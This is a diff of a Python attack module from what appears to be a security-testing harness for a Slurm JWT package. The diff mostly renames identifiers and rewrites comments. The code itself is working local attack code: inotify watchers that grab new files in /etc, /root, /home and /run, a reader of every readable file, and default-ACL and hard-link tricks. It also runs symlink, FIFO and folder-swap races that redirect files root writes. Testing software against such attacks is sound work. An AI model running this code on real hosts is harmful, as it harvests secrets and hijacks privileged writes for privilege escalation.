@@ -1,7 +1,7 @@
 # Copyright (c) 2026, hpc.slurm_jwt contributors
 # GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""To read what can be read for an instant, and to have root write where it should not. See attacker.py."""
+"""Attacks that read files at once when they appear, and that make root write to wrong files. See attacker.py."""
 
 from __future__ import annotations
 
@@ -16,25 +16,25 @@ from typing import Any, Iterator
 
 from attacker import LIMIT, Attack, read
 
-# Where secrets might lie about. The attacker's own home is none of these.
+# Folders that may contain secrets, without the attacker's home.
 ROOTS = ("/tmp", "/var/tmp", "/dev/shm", "/run", "/etc", "/root", "/home", "/srv", "/opt", "/usr/local",
          "/var/lib/slurm", "/var/lib/prometheus", "/var/lib/systemd", "/var/log", "/var/spool")  # fmt: skip
-# Tables of the kernel's, and what the package manager keeps.
-PASSED_OVER = ("/run/udev", "/etc/ssl/certs", "/etc/alternatives", "/run/credentials", "/run/systemd/units")
+# Files of the kernel and of packages.
+SKIPPED = ("/run/udev", "/etc/ssl/certs", "/etc/alternatives", "/run/credentials", "/run/systemd/units")
 
 EVENTS = 0x002 | 0x004 | 0x008 | 0x080 | 0x100  # modified, attributes, closed after writing, moved here, created
 HEADER = struct.Struct("iIII")
-OPEN_MOST = 300
+MAX_OPEN = 300
 
 
 def folders(root: str) -> Iterator[str]:
     for folder, below, _files in os.walk(root):
-        below[:] = [name for name in below if os.path.join(folder, name) not in PASSED_OVER]
+        below[:] = [name for name in below if os.path.join(folder, name) not in SKIPPED]
         yield folder
 
 
 class NewFiles(Attack):
-    """Opens whatever appears or changes, at that instant, and keeps it open, so as to read what it holds later."""
+    """Opens every new or changed file at once, and keeps it open to read it later."""
 
     name = "new files"
     pause = 0.0
@@ -47,7 +47,7 @@ class NewFiles(Attack):
         self.open: dict[str, int] = {}
         for folder in itertools.chain.from_iterable(map(folders, ROOTS)):
             self.watch(folder)
-        # Nothing is there to be tried before somebody makes something.
+        # Counts even if no file appears.
         self.ledger.tried(self.name, len(self.paths))
 
     def watch(self, folder: str) -> None:
@@ -62,18 +62,18 @@ class NewFiles(Attack):
             name = os.fsdecode(data[HEADER.size : HEADER.size + length].rstrip(b"\0"))
             data = data[HEADER.size + length :]
             if name and number in self.paths:
-                # It may be gone already.
+                # It may be removed already.
                 with contextlib.suppress(OSError):
-                    self.look(os.path.join(self.paths[number], name))
+                    self.read_new(os.path.join(self.paths[number], name))
 
-    def look(self, path: str) -> None:
+    def read_new(self, path: str) -> None:
         self.ledger.tried(self.name)
         for fd in filter(None, (self.open.get(path), self.open_now(path))):
             with contextlib.suppress(OSError):
                 self.ledger.inspect(self.name, path, os.pread(fd, LIMIT, 0))
 
     def open_now(self, path: str) -> int | None:
-        """It, if it is another file than the one that was open."""
+        """Opens the file, also if another one of that name is open."""
         try:
             fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOFOLLOW | os.O_CLOEXEC)
         except OSError:
@@ -82,7 +82,7 @@ class NewFiles(Attack):
             os.close(fd)
             for folder in folders(path):
                 self.watch(folder)
-                # What was made before it was watched.
+                # Files that were made before the folder was watched.
                 for entry in os.scandir(folder):
                     self.open_now(entry.path)
             return None
@@ -90,12 +90,12 @@ class NewFiles(Attack):
         if old is not None:
             os.close(old)
         self.open[path] = fd
-        while len(self.open) > OPEN_MOST:
+        while len(self.open) > MAX_OPEN:
             os.close(self.open.pop(next(iter(self.open))))
         return fd
 
 
-class Everything(Attack):
+class ReadableFiles(Attack):
     """Reads every file that this user can read."""
 
     name = "readable files"
@@ -119,13 +119,13 @@ class Everything(Attack):
 
 
 def acl(user: int) -> bytes:
-    """The list that lets one more user read and write, as setfacl would make it."""
+    """An access control list that lets another user read and write, as setfacl makes it."""
     entries = ((0x01, 7, -1), (0x02, 7, user), (0x04, 5, -1), (0x10, 7, -1), (0x20, 5, -1))
     return struct.pack("<I", 2) + b"".join(struct.pack("<HHi", *entry) for entry in entries)
 
 
-class OwnPlaces(Attack):
-    """Folders of the attacker's in which root makes files: a default ACL, and another name for everything there."""
+class LocalFolders(Attack):
+    """The attacker's folders in which root makes files: a default ACL, and hard links to files there."""
 
     name = "own folders"
     pause = 0.1
@@ -142,14 +142,14 @@ class OwnPlaces(Attack):
             for entry in os.scandir(folder):
                 self.ledger.inspect(self.name, entry.path, read(entry.path) or b"")
                 if entry.name.startswith(".slurm_jwt."):
-                    # A file on its way: another name for it, or none at all.
+                    # A temporary file: a hard link to it.
                     with contextlib.suppress(OSError):
                         os.link(entry.path, os.path.join(folder, f"kept-{entry.inode()}"))
                         self.ledger.tried("temporary files linked")
 
 
 class Plants(Attack):
-    """Puts links, pipes and files of his own in the place of a file that root writes, one after the other."""
+    """Replaces a file that root writes with links, pipes and files of the attacker, one after the other."""
 
     name = "plants"
     pause = 0.03
@@ -172,7 +172,7 @@ class Plants(Attack):
                 self.ledger.gained(self.name, "written through", path)
 
     def keep(self, path: str) -> None:
-        """What root has put there, before it is replaced."""
+        """Reads root's file before it is replaced."""
         if os.lstat(path).st_uid != os.getuid():
             self.ledger.tried("plants replaced")
             self.ledger.inspect(self.name, path, read(path) or b"")
@@ -180,11 +180,11 @@ class Plants(Attack):
     def plant(self, path: str) -> None:
         kinds = [*self.task.links, None, "file"]
         kind = kinds[self.turn % len(kinds)]
-        draft = f"{path}.{self.turn}"
+        temporary = f"{path}.{self.turn}"
         if kind is None:
-            os.mkfifo(draft, 0o666)
+            os.mkfifo(temporary, 0o666)
         elif kind == "file":
-            fd = os.open(draft, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
+            fd = os.open(temporary, os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o666)
             os.fchmod(fd, 0o666)
             os.write(fd, self.TEXT)
             self.files.append((path, fd))
@@ -192,14 +192,14 @@ class Plants(Attack):
                 os.close(self.files.pop(0)[1])
         else:
             with contextlib.suppress(OSError):
-                os.link(kind, f"{draft}.hard")
+                os.link(kind, f"{temporary}.hard")
                 self.ledger.gained(self.name, "hard link", kind)
-            os.symlink(kind, draft)
-        os.rename(draft, path)
+            os.symlink(kind, temporary)
+        os.rename(temporary, path)
 
 
 class FolderLinks(Attack):
-    """Puts a link in the place of a folder in which root writes, and the folder in its place again, all the time."""
+    """Replaces a folder in which root writes with a link, and the link with the folder, all the time."""
 
     name = "folder links"
     pause = 0.1
